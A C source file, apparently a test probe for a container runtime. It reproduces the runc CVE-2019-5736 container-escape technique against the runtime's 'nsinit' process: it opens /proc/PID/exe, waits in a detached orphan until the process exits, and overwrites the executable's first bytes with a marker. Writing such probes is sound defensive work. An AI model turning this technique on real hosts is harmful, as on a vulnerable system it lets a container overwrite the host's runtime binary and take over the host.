/* proc_exe_write PID|parent: a hostile payload trying runc's
 * CVE-2019-5736 on nsinit: reach nsinit's executable through
 * /proc/PID/exe (PID, or "parent" for getppid()) and write to it, now and
 * after nsinit has exited. Prints, one line each:
 *
 *   path: ok | <errno>       open("/proc/PID/exe", O_PATH)
 * and when that worked:
 *   file: DEV:INO            what the fd refers to (fstat)
 *   seals: 0xN | <errno>     F_GET_SEALS, through an O_RDONLY reopen
 *   now: <result>            an O_WRONLY reopen through /proc/self/fd/N
 * then an orphan (setsid, its parent gone) keeps the fd, waits while the
 * reopen says ETXTBSY (nsinit still runs) and prints
 *   after: wrote | write <errno> | <errno> | timeout
 * where "wrote" means it overwrote the first bytes of what the fd refers
 * to. The orphan shares stdout, so a reader sees EOF once it is gone; it
 * gives up after 10 s and alarm() ends it after 20 s whatever happens. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static const char *name(int e) {
    static char num[16];
    switch (e) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case EBADF: return "EBADF";
    case EINVAL: return "EINVAL";
    case ETXTBSY: return "ETXTBSY";
    case EROFS: return "EROFS";
    default: snprintf(num, sizeof num, "%d", e); return num;
    }
}

/* Unbuffered: the orphan shares the stream. */
static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...) {
    char line[256];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(line, sizeof line, fmt, ap);
    va_end(ap);
    if (write(1, line, n) != n) _exit(3);
}

static int reopen(int fd, int flags) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    return open(path, flags | O_CLOEXEC);
}

static void orphan(int fd) {
    alarm(20);
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec >= 10) break;
        int w = reopen(fd, O_WRONLY);
        if (w >= 0) {
            static const char mark[] = "CVE-2019-5736";
            if (pwrite(w, mark, sizeof mark - 1, 0) == sizeof mark - 1) say("after: wrote\n");
            else say("after: write %s\n", name(errno));
            _exit(0);
        }
        if (errno != ETXTBSY) {
            say("after: %s\n", name(errno));
            _exit(0);
        }
    }
    say("after: timeout\n");
    _exit(0);
}

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    int pid = strcmp(argv[1], "parent") == 0 ? getppid() : atoi(argv[1]);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        say("path: %s\n", name(errno));
        return 0;
    }
    say("path: ok\n");
    struct stat st;
    if (fstat(fd, &st) != 0) return 3;
    say("file: %u:%u:%lu\n", major(st.st_dev), minor(st.st_dev), (unsigned long)st.st_ino);
    int r = reopen(fd, O_RDONLY);
    int seals = r < 0 ? -1 : fcntl(r, F_GET_SEALS);
    if (seals < 0) say("seals: %s\n", name(errno));
    else say("seals: 0x%x\n", seals);
    if (r >= 0) close(r);
    int w = reopen(fd, O_WRONLY);
    if (w >= 0) say("now: opened\n");
    else say("now: %s\n", name(errno));
    if (w >= 0) close(w);
    pid_t child = fork();
    if (child < 0) return 3;
    if (child == 0) {
        setsid();
        orphan(fd);
    }
    return 0;
}
